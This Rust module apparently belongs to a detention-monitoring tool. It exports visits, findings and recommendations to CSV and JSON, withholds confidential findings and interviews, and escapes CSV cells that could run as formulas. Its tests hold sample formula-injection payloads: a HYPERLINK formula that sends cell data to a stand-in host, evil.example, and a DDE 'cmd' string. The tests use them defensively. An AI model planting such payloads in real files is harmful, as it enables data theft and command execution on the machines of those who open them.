//! Visits, findings and recommendations as flat tables, for spreadsheets and analysis:
//! CSV (one file per table, quoting by the `csv` crate; a cell that would run as a
//! spreadsheet formula neutralised) and JSON (all three tables, as they are).
//!
//! Interviews are never exported. Findings marked confidential are left out unless the
//! caller asks for an internal export ([`Audience::Internal`]).

use std::collections::HashMap;

use chrono::{DateTime, NaiveDate, Utc};
use serde::{Deserialize, Serialize};
use uuid::Uuid;
use vigil_core::Entity;
use vigil_core::VisitStatus;
use vigil_core::records::*;
use vigil_store::{RecommendationFilter, Store, TrackedStatus};

use crate::ReportError;

/// Who the export is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Audience {
    /// The office itself: confidential findings included (still no interviews).
    Internal,
    /// Anyone else: nothing marked confidential.
    Public,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct VisitRow {
    pub visit_id: Uuid,
    pub place: String,
    pub place_kind: Option<FacilityKind>,
    pub authority: String,
    pub team: String,
    pub visit_type: VisitType,
    pub unannounced: bool,
    pub status: VisitStatus,
    pub planned_on: NaiveDate,
    pub arrived_at: Option<DateTime<Utc>>,
    pub access_granted_at: Option<DateTime<Utc>>,
    pub departed_at: Option<DateTime<Utc>>,
    pub theme: Option<String>,
    pub summary: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FindingRow {
    pub finding_id: Uuid,
    pub visit_id: Uuid,
    pub place: String,
    pub area: Area,
    pub severity: Severity,
    pub confidential: bool,
    pub text: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RecommendationRow {
    pub recommendation_id: Uuid,
    pub visit_id: Uuid,
    pub place: String,
    pub place_kind: Option<FacilityKind>,
    pub authority: String,
    pub area: Area,
    pub priority: Priority,
    pub made_on: Option<NaiveDate>,
    pub due_on: Option<NaiveDate>,
    pub response: AuthorityResponse,
    pub status: TrackedStatus,
    pub overdue: bool,
    pub assessments: usize,
    pub last_assessed_on: Option<NaiveDate>,
    pub text: String,
}

/// The three tables.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Tables {
    pub visits: Vec<VisitRow>,
    pub findings: Vec<FindingRow>,
    pub recommendations: Vec<RecommendationRow>,
}

impl Tables {
    /// Reads the tables from a replica; statuses and overdue as on `as_of`.
    pub fn read(store: &Store, audience: Audience, as_of: NaiveDate) -> Result<Tables, ReportError> {
        let places: HashMap<Uuid, Facility> =
            store.all::<Facility>(Entity::Facility)?.into_iter().map(|f| (f.id, f)).collect();
        let teams: HashMap<Uuid, String> =
            store.all::<Team>(Entity::Team)?.into_iter().map(|t| (t.id, t.name)).collect();
        let place_name = |id: &Uuid| places.get(id).map(|p| p.name.clone()).unwrap_or_default();
        let visits: Vec<Visit> = store.all(Entity::Visit)?;
        let visit_places: HashMap<Uuid, Uuid> = visits.iter().map(|v| (v.id, v.facility_id)).collect();
        let visits = visits
            .into_iter()
            .map(|v| VisitRow {
                visit_id: v.id,
                place: place_name(&v.facility_id),
                place_kind: places.get(&v.facility_id).map(|p| p.kind),
                authority: places.get(&v.facility_id).map(|p| p.authority.clone()).unwrap_or_default(),
                team: teams.get(&v.team_id).cloned().unwrap_or_default(),
                visit_type: v.visit_type,
                unannounced: v.unannounced,
                status: v.status,
                planned_on: v.planned_on,
                arrived_at: v.arrived_at,
                access_granted_at: v.access_granted_at,
                departed_at: v.departed_at,
                theme: v.theme,
                summary: v.summary,
            })
            .collect();
        let findings = store
            .all::<Observation>(Entity::Observation)?
            .into_iter()
            .filter(|o| audience == Audience::Internal || !o.confidential)
            .map(|o| FindingRow {
                finding_id: o.id,
                visit_id: o.visit_id,
                place: visit_places.get(&o.visit_id).map(&place_name).unwrap_or_default(),
                area: o.area,
                severity: o.severity,
                confidential: o.confidential,
                text: o.text,
            })
            .collect();
        let recommendations = store
            .recommendation_tracker(&RecommendationFilter::default(), as_of)?
            .rows
            .into_iter()
            .map(|row| RecommendationRow {
                recommendation_id: row.recommendation.id,
                visit_id: row.recommendation.visit_id,
                place: row.place_name,
                place_kind: row.place_kind,
                authority: row.recommendation.authority,
                area: row.recommendation.area,
                priority: row.recommendation.priority,
                made_on: row.made_on,
                due_on: row.recommendation.due_on,
                response: row.recommendation.response,
                status: row.status,
                overdue: row.overdue,
                assessments: row.history.len(),
                last_assessed_on: row.history.last().map(|a| a.assessed_on),
                text: row.recommendation.text,
            })
            .collect();
        Ok(Tables { visits, findings, recommendations })
    }

    /// All three tables as one JSON document.
    pub fn to_json(&self) -> Result<String, ReportError> {
        Ok(serde_json::to_string_pretty(self)?)
    }
}

/// One table as CSV, a header row first. A cell a spreadsheet would run as a formula gets
/// a leading `'` (see [`runs_as_formula`]): opening an export must never run what a person
/// (or a stolen device) typed into a finding.
pub fn to_csv<T: Serialize>(rows: &[T]) -> Result<String, ReportError> {
    let mut plain = csv::Writer::from_writer(Vec::new());
    for row in rows {
        plain.serialize(row)?;
    }
    let plain = plain.into_inner().map_err(|err| csv::Error::from(err.into_error()))?;
    let mut writer = csv::Writer::from_writer(Vec::new());
    for record in csv::ReaderBuilder::new().has_headers(false).from_reader(&plain[..]).records() {
        writer.write_record(record?.iter().map(|cell| match runs_as_formula(cell.trim_start_matches('\'')) {
            true => format!("'{cell}"),
            false => cell.to_owned(),
        }))?;
    }
    let bytes = writer.into_inner().map_err(|err| csv::Error::from(err.into_error()))?;
    // The writer is given only strings, so its output is UTF-8.
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// Reads back a table written by [`to_csv`], without the quotes it added. A cell that
/// began with quotes before a formula had one more added, so it reads back as it was.
pub fn from_csv<T: for<'de> Deserialize<'de>>(text: &str) -> Result<Vec<T>, ReportError> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers()?.clone();
    let records = reader.records().map(|record| {
        let cells: csv::StringRecord = record?
            .iter()
            .map(|cell| match cell.strip_prefix('\'') {
                Some(rest) if runs_as_formula(rest.trim_start_matches('\'')) => rest,
                _ => cell,
            })
            .collect();
        cells.deserialize(Some(&headers))
    });
    Ok(records.collect::<Result<Vec<T>, csv::Error>>()?)
}

/// A cell a spreadsheet would take for a formula (the OWASP list: `=`, `+`, `-`, `@`, tab,
/// carriage return first). A plain number (sign, digits, a decimal part) is not: it is read
/// as that number and stays one, in our numeric columns as in a person's text.
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell)
}

fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    !whole.is_empty() && !fraction.is_empty() && whole.chars().chain(fraction.chars()).all(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_with_commas_quotes_and_newlines_round_trips_through_a_csv_reader() {
        let awkward = "Cell 3, \"the cold one\";\nno heating,\r\nsaid: \"11°C\" — Şəki, Гянджа";
        let row = FindingRow {
            finding_id: Uuid::now_v7(),
            visit_id: Uuid::now_v7(),
            place: "Prison No. 4, \"North\" wing".into(),
            area: Area::MaterialConditions,
            severity: Severity::High,
            confidential: false,
            text: awkward.into(),
        };
        let text = to_csv(std::slice::from_ref(&row)).expect("csv");
        assert_eq!(from_csv::<FindingRow>(&text).expect("read back"), vec![row.clone()]);

        // Any CSV reader sees the same fields, not just our own.
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().expect("headers").clone();
        let record = reader.records().next().expect("one row").expect("row");
        let field = |name: &str| headers.iter().position(|h| h == name).and_then(|i| record.get(i));
        assert_eq!(field("text"), Some(awkward));
        assert_eq!(field("severity"), Some("high"));
        assert_eq!(field("place"), Some("Prison No. 4, \"North\" wing"));
    }

    fn finding(text: &str) -> FindingRow {
        FindingRow {
            finding_id: Uuid::now_v7(),
            visit_id: Uuid::now_v7(),
            place: "Prison No. 4".into(),
            area: Area::MaterialConditions,
            severity: Severity::High,
            confidential: false,
            text: text.into(),
        }
    }

    /// The cells of the `text` column, as any CSV reader (and a spreadsheet) gets them.
    fn text_cells(csv_text: &str) -> Vec<String> {
        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
        let column = reader.headers().expect("headers").iter().position(|h| h == "text").expect("text column");
        reader.records().map(|record| record.expect("row")[column].to_owned()).collect()
    }

    #[test]
    fn a_cell_that_would_run_as_a_formula_is_neutralised_and_reads_back_as_written() {
        let planted = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open the report\")";
        let texts = [planted, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=1", "''-x"];
        let rows: Vec<FindingRow> = texts.iter().map(|text| finding(text)).collect();
        let written = to_csv(&rows).expect("csv");
        let expected: Vec<String> = texts.iter().map(|text| format!("'{text}")).collect();
        assert_eq!(text_cells(&written), expected);
        assert_eq!(from_csv::<FindingRow>(&written).expect("read back"), rows);
    }

    #[test]
    fn numbers_and_ordinary_text_are_left_as_they_are() {
        let texts = ["-5", "+12.5", "3", "Cell 3 = cold", "a-b", "-", "'quoted", "-1e5"];
        let rows: Vec<FindingRow> = texts.iter().map(|text| finding(text)).collect();
        let written = to_csv(&rows).expect("csv");
        // A lone dash and a number in another notation are text a spreadsheet could run.
        let expected = ["-5", "+12.5", "3", "Cell 3 = cold", "a-b", "'-", "'quoted", "'-1e5"];
        assert_eq!(text_cells(&written), expected);
        assert_eq!(from_csv::<FindingRow>(&written).expect("read back"), rows);
    }
}
